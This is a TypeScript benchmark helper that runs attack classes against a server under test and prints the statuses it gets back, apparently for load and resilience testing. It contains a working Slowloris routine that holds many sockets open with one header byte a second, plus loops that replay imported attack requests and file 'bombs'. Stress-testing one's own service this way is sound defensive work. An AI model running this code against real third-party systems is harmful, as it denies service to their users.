// The attacker of bench/hostile.ts, as its own process so its CPU does not
// colour the well-behaved client's timings: sends one attack class in a
// bounded number of loops for a bounded time, then prints one JSON line of
// what it got back (statuses, connection errors, requests sent).
//
//   node --import tsx bench/lib/attacker.ts CLASS BASE_URL CHANNEL KEY DURATION_MS LOOPS [BOMBS_JSON]
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { ATTACKS, type AttackRequest } from './attacks.js';

const [cls, baseUrl, channel, key, durationArg, loopsArg, bombsArg] = process.argv.slice(2);
const bombs = bombsArg
  ? (JSON.parse(bombsArg) as Array<{ filename: string; file: string }>).map((b) => ({ filename: b.filename, body: fs.readFileSync(b.file) }))
  : [];
const durationMs = Number(durationArg);
const loops = Number(loopsArg);
const deadline = Date.now() + durationMs;
const statuses: Record<string, number> = {};
let errors = 0;
let sent = 0;

function send(req: AttackRequest): Promise<void> {
  return new Promise((resolve) => {
    const body = req.body === undefined ? undefined : Buffer.isBuffer(req.body) ? req.body : Buffer.from(req.body);
    const r = http.request(`${baseUrl}${req.path}`, {
      method: req.method, agent: false,
      headers: { ...req.headers, ...(body ? { 'content-length': body.length } : {}) },
      timeout: 30_000,
    }, (res) => {
      res.resume();
      res.on('end', () => {
        statuses[res.statusCode ?? 0] = (statuses[res.statusCode ?? 0] ?? 0) + 1;
        resolve();
      });
      res.on('error', () => { errors++; resolve(); });
    });
    r.on('timeout', () => r.destroy(new Error('timeout')));
    r.on('error', () => { errors++; resolve(); });
    sent++;
    r.end(body);
  });
}

/** Slowloris: `loops` sockets, each sending one header byte a second, reopened when the server closes them. */
async function slowClients(): Promise<void> {
  const { port, hostname } = new URL(baseUrl!);
  const head = `POST /api/graphql HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"query":"`;
  const open = (): Promise<void> => new Promise((resolve) => {
    const socket = net.connect(Number(port), hostname);
    let at = 0;
    sent++;
    const timer = setInterval(() => {
      if (Date.now() > deadline) { socket.destroy(); return; }
      socket.write(at < head.length ? head[at++]! : 'x');
    }, 1000);
    socket.on('data', (d) => {
      const status = /^HTTP\/1\.1 (\d+)/.exec(d.toString('latin1'))?.[1] ?? 'data';
      statuses[status] = (statuses[status] ?? 0) + 1;
    });
    socket.on('error', () => errors++);
    socket.on('close', () => { clearInterval(timer); resolve(); });
  });
  await Promise.all(Array.from({ length: loops }, async () => {
    while (Date.now() < deadline) await open();
  }));
}

async function main(): Promise<void> {
  if (cls === 'slow-clients') return slowClients();
  const attack = ATTACKS[cls!];
  if (!attack) throw new Error(`unknown attack class ${cls}`);
  let i = 0;
  await Promise.all(Array.from({ length: loops }, async () => {
    while (Date.now() < deadline) await send(attack.builder({ channel: channel!, key: key!, bombs }, i++));
  }));
}

main().then(() => {
  process.stdout.write(JSON.stringify({ cls, sent, statuses, errors }) + '\n');
  process.exit(0);
}, (err: unknown) => {
  process.stderr.write(`attacker: ${String(err)}\n`);
  process.exit(1);
});
